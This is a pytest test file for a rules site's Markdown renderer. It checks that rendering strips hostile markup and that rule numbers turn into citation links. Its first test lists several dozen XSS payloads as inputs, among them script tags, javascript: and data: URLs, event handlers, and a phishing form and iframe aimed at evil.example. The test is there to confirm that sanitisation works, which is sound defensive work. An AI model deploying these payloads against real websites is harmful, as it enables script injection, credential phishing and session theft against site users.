"""Markdown of maintainers: nothing harmful comes through, and rule numbers become links."""

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rulesite.reading.rendering.markdown import TAGS, mentions, render
from rulesite.text.numbering import Scheme
from tests import factories as make
from tests.snapshots import made_once

pytestmark = pytest.mark.django_db


@pytest.fixture
@made_once
def library():
    """404.1 in two editions, 402.8g in the older one, and a lettered rule."""
    early, late = make.edition("2006-10-01"), make.edition("2008-02-01")
    make.version(early, "404.1", "Early.")
    make.version(late, "404.1", "Late.")
    make.version(early, "402.8g", "There.")
    make.version(early, "409.1b", "A step.")
    make.version(early, "404", title="Triggered Abilities")
    make.version(make.edition("2002-10-15", "dangelo", Scheme.LETTERED), "A.4.20", "Pay once.")


def links(html):
    """The links to rules: (address, text)."""
    return re.findall(r'<a class="citation" href="([^"]+)"[^>]*>([^<]*)</a>', html)


# --- what must not come through -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
        "<iframe src='//evil.example'></iframe>",
        "<form action='//evil.example'><input name=p><button>Log in</button></form>",
        "<style>body{display:none}</style>",
        "<p style='position:fixed;inset:0'>cover</p>",
        "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<object data='//evil.example'></object><embed src='//evil.example'>",
        "<details open ontoggle=alert(1)>x</details>",
        '<a class="citation" href="javascript:alert(1)">404.1</a>',
        '[[404.1"onmouseover="alert(1)]]',
        "[[<script>alert(1)</script>]]",
        "[x]: javascript:alert(1)\n\n[x]",
        '[x](http://a.example "onmouseover=alert(1)")',
        "`<script>alert(1)</script>` and\n\n```\n<img src=x onerror=alert(1)>\n```",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<!--><img src=x onerror=alert(1)>-->",
    ],
)
def test_nothing_that_acts_comes_through(library, attack):
    html = render(attack)
    elements = re.findall(r"<([a-zA-Z][^\s/>]*)((?:\"[^\"]*\"|'[^']*'|[^>])*)>", html)
    assert {name for name, _ in elements} <= TAGS
    for _, attributes in elements:
        names = re.findall(r"([\w:-]+)=\"[^\"]*\"", attributes)
        assert set(names) <= {"href", "title", "rel", "class", "align", "start"}, attributes
    for address in re.findall(r'href="([^"]*)"', html):
        scheme = re.match(
            r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.sub(r"[\t\r\n]", "", unescape(address)), re.IGNORECASE
        )
        assert scheme is None or scheme[1].lower() in ("http", "https", "mailto"), address


@given(st.text(alphabet="<>\"'/=&;[]()!#`*_|\\:@. \n\tascriptonloadjvhefgmd0123456789.A", max_size=200))
def test_whatever_is_written_only_allowed_elements_come_out(text):
    html = render(text)
    assert {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z]\w*)", html)} <= TAGS
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', html))


def test_harmless_markdown_comes_through():
    html = render(
        "# One\n\n## Two\n\n- a\n- b\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```\n<b>\n```\n\n[x](https://a.example) *e* **s**"
    )
    for piece in (
        "<li>a</li>",
        "<table>",
        '<td align="right">2</td>',
        "<pre><code>&lt;b&gt;",
        "<em>e</em>",
        "<strong>",
    ):
        assert piece in html
    assert '<a href="https://a.example" rel="noopener">x</a>' in html


def test_headings_stand_below_the_page_s_own():
    html = render("# One\n\n###### Six\n\n<h1>Raw</h1>")
    assert "<h2>One</h2>" in html
    assert "<h6>Six</h6>" in html
    assert "<h1" not in html
    assert "Raw" in html


# --- rule numbers -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("404.1", [("/cr/2008-02-01/404.1/", "404.1")]),
        ("See rule 402.8g.", [("/cr/2006-10-01/402.8g/", "402.8g")]),
        ("rules 409.1b-i", [("/cr/2006-10-01/409.1b/", "409.1b-i")]),
        ("section 404 says", [("/cr/2006-10-01/404/", "404")]),
        ("A.4.20 says", [("/dangelo/2002-10-15/A.4.20/", "A.4.20")]),
        ("[[404.1@2006-10-01]]", [("/cr/2006-10-01/404.1/", "404.1 (2006-10-01)")]),
        ("[[cr/2006-10-01/402.8g]]", [("/cr/2006-10-01/402.8g/", "402.8g (2006-10-01)")]),
        ("[[A.4.20]]", [("/dangelo/2002-10-15/A.4.20/", "A.4.20")]),
        ("[[404]]", [("/cr/2006-10-01/404/", "404")]),
        ("404.1, 402.8g", [("/cr/2008-02-01/404.1/", "404.1"), ("/cr/2006-10-01/402.8g/", "402.8g")]),
        ("**404.1** and *then* 404.1", [("/cr/2008-02-01/404.1/", "404.1")] * 2),
        ("- 404.1\n- (404.1)", [("/cr/2008-02-01/404.1/", "404.1")] * 2),
        ("| a |\n|---|\n| 404.1 |", [("/cr/2008-02-01/404.1/", "404.1")]),
        ("## On 404.1", [("/cr/2008-02-01/404.1/", "404.1")]),
    ],
)
def test_rule_numbers_become_links(library, text, found):
    assert links(render(text)) == found


@pytest.mark.parametrize(
    "text",
    [
        "`404.1`",
        "```\n404.1\n```",
        "    404.1",
        "[about 404.1](https://a.example)",
        "https://a.example/404.1",
        "404\\.1",
        "$404.1 and 404.1%",
        "404.1.7 and 1.404.1",
        "\\[\\[A.4]]",
        "in 2006 there were 404 cards",
    ],
)
def test_what_is_no_citation_is_left_alone(library, text):
    html = render(text)
    assert links(html) == []
    assert "citation" not in html


def test_a_number_that_no_edition_has_stays_text_and_is_marked(library):
    html = render("See rule 999.9 and [[404.1@1999-01-01]].")
    assert '<span class="citation-unknown" title="No edition held here has 999.9">999.9</span>' in html
    assert ">[[404.1@1999-01-01]]</span>" in html
    assert links(html) == []


def test_the_words_around_a_link_stay_as_they_were(library):
    html = render("Before 404.1 between **bold 402.8g end** after 999.9 last.")
    assert re.sub("<[^>]+>", "", html) == "Before 404.1 between bold 402.8g end after 999.9 last."


def test_a_long_text_asks_the_database_once(library, django_assert_max_num_queries):
    with django_assert_max_num_queries(2):
        html = render("\n\n".join(f"Rule 404.1 and 402.8g and {n}.{n}" for n in range(100, 400)))
    assert len(links(html)) == 600


@given(st.text(alphabet="rules 0123456789.abgA[]@-\n", max_size=120))
def test_mentions_lie_in_order_and_apart(text):
    at = 0
    for start, end, address in mentions(text):
        assert at <= start < end <= len(text)
        assert address.strip() or text[start : start + 2] == "[["
        at = end
